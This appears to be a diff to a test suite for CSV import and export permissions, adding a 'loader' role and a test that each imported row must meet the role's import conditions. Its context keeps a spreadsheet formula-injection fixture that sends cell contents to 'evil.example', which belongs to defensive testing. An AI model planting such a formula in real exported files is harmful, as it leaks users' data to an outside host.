@@ -79,6 +79,15 @@ rules:
   - { action: read, subject: account }
   - { action: create, subject: deal, fields: [margin], inverted: true }
 `,
+  // creates deals for anyone one by one, but imports only their own
+  'roles/loader.yaml': `
+kind: role
+name: loader
+label: ${label('Loader')}
+rules:
+  - { action: [read, create], subject: deal }
+  - { action: import, subject: deal, conditions: { owner: $me } }
+`,
 };
 const PASSWORD = 'export-password-1';
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
@@ -123,6 +132,7 @@ describe.each(DIALECTS)('export and import on %s', (dialect) => {
       ['reader', 'reader'],
       ['narrow', 'narrow'],
       ['importer', 'importer'],
+      ['loader', 'loader'],
     ]) {
       const r = await s.api(
         'POST',
@@ -446,6 +456,17 @@ describe.each(DIALECTS)('export and import on %s', (dialect) => {
       expect(r.status).toBe(403);
       expect(r.body.message).toContain('row 2');
       expect(await count()).toBe(before);
+    });
+
+    it('new rows must also satisfy the import conditions, not only the create ones', async () => {
+      const before = await count();
+      const r = await importCsv('loader', 'title,owner\nmine,loader\ntheirs,analyst\n');
+      expect(r.status).toBe(403);
+      expect(r.body.errors[0]).toMatchObject({ action: 'import' });
+      expect(r.body.message).toContain('row 2');
+      expect(await count()).toBe(before);
+      const ok = await importCsv('loader', 'title,owner\nmine,loader\n');
+      expect(ok.body.created).toBe(1);
     });
 
     it('without import permission answers 403 before reading the file, audited', async () => {
